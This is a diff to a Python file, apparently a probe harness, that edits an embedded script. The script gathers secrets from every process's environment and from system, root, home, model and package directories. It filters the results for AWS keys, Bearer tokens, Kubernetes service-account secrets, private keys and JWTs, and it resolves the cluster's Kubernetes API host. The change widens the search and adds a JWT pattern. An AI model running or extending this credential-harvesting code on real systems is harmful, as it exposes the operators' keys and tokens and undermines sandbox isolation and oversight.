@@ -14,7 +14,7 @@ FIRST = 1001
 """The number of the first attempt, which no probe row has."""
 
 SOURCE = """
-import errno, glob, json, os, signal, socket, sys, time, urllib.error, urllib.request
+import errno, glob, json, os, re, signal, socket, sys, time, urllib.error, urllib.request
 
 def keys():
     "Return what could be a key or a token: variables of every process, and files."
@@ -24,7 +24,7 @@ def keys():
             texts.append(open(path).read())
         except OSError:
             pass
-    for top in ("/run", "/var/run", "/tmp", "/etc", "/ca", "/root", "/home", "/model"):
+    for top in ("/run", "/var/run", "/tmp", "/etc", "/ca", "/root", "/home", "/model", "/packages"):
         for folder, _, names in os.walk(top):
             for name in names:
                 path = os.path.join(folder, name)
@@ -33,8 +33,9 @@ def keys():
                         texts.append(path + " " + open(path, errors="replace").read())
                 except OSError:
                     pass
-    words = ("AWS_", "X-Amz-", "Bearer", "eyJ", "secrets/kubernetes.io", "PRIVATE KEY", *SECRETS)
-    return [text for text in texts if any(word in text for word in words)]
+    words = ("AWS_", "X-Amz-", "Bearer", "secrets/kubernetes.io", "PRIVATE KEY", *SECRETS)
+    token = re.compile(r"\\beyJ[\\w-]+[.]eyJ")
+    return [text for text in texts if any(word in text for word in words) or token.search(text)]
 
 def resolve():
     return socket.gethostbyname("kubernetes.default.svc.cluster.local")
